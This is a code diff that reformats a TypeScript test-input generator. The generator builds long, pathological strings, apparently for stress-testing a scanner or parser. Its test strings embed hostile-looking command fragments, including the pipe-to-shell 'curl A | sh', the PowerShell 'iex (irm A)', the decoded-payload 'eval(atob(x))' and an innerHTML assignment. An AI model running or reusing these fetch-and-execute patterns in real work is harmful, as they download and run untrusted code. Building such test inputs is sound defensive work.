@@ -8,13 +8,17 @@ export type Family = (size: number) => string;
 const repeated =
   (unit: string, before = "", after = ""): Family =>
   (size) =>
-    before + unit.repeat(Math.max(1, Math.ceil((size - before.length - after.length) / unit.length))) + after;
+    before +
+    unit.repeat(Math.max(1, Math.ceil((size - before.length - after.length) / unit.length))) +
+    after;
 const fenced = (tag: string, unit: string): Family => repeated(unit, `\`\`\`${tag}\n`, "\n```\n");
-const growing = (line: (index: number) => string): Family => (size) => {
-  let text = "";
-  for (let index = 0; text.length < size; index++) text += line(index);
-  return text;
-};
+const growing =
+  (line: (index: number) => string): Family =>
+  (size) => {
+    let text = "";
+    for (let index = 0; text.length < size; index++) text += line(index);
+    return text;
+  };
 
 const scraps = [
   "curl",
@@ -105,7 +109,11 @@ const built: Readonly<Record<string, Family>> = {
   "exclamation marks": repeated("!", "", "curl A | sh\n"),
   underscores: repeated("__", "", "curl A | sh\n"),
   "blanks in YAML": repeated(" ", "run: curl A ", " | sh"),
-  "blanks behind a property of JavaScript": repeated(" ", "```js\neval(atob(x)); a.innerHTML", "b\n```\n"),
+  "blanks behind a property of JavaScript": repeated(
+    " ",
+    "```js\neval(atob(x)); a.innerHTML",
+    "b\n```\n",
+  ),
   "blanks in a line of Python": repeated(" ", "```python\neval(atob(x))\n", "b\n```\n"),
   "braces and blanks": repeated(" ", "`{{ ", "curl A | sh`"),
   "multi-line quotations": fenced("console", '$ echo "a\nb c\nd"\n'),
@@ -116,15 +124,18 @@ const built: Readonly<Record<string, Family>> = {
   "open tables of PowerShell": repeated("@{a=", "```powershell\niex (irm A)\niex "),
   "sums of PowerShell": repeated("'iex' + \"irm\" + ", "```powershell\niex (irm A)\niex "),
   "backticks of PowerShell": repeated("`", "```powershell\niex (irm A)\niex "),
-  "bars at the start of PowerShell's lines": repeated(" | curl A\n", "```powershell\niex (irm A)\niex\n"),
+  "bars at the start of PowerShell's lines": repeated(
+    " | curl A\n",
+    "```powershell\niex (irm A)\niex\n",
+  ),
   "quotation marks of PowerShell": repeated("\"'", "```powershell\niex (irm A)\niex "),
   "operators of batch files": repeated("(curl A & ", "```bat\n"),
   "carets of batch files": repeated("^", "```bat\ncurl A "),
   "batch lines": fenced("bat", "if exist x call curl A | sh\n"),
   "open strings of Nix": fenced("nix", "a = \"''curl\" ''\n"),
   "dotted keys of TOML": repeated("a.", "```toml\ncurl"),
-  "escaped quotes of TypeScript": repeated("\\`\\\"", "```ts\neval(atob(x)); "),
-  "escaped quotes behind one that stays open": repeated("\\\"", "```\neval(atob(\"", "\n```\n"),
+  "escaped quotes of TypeScript": repeated('\\`\\"', "```ts\neval(atob(x)); "),
+  "escaped quotes behind one that stays open": repeated('\\"', '```\neval(atob("', "\n```\n"),
   addresses: repeated("http://a.b/curl "),
   "lone surrogates": repeated("\ud800curl"),
 };
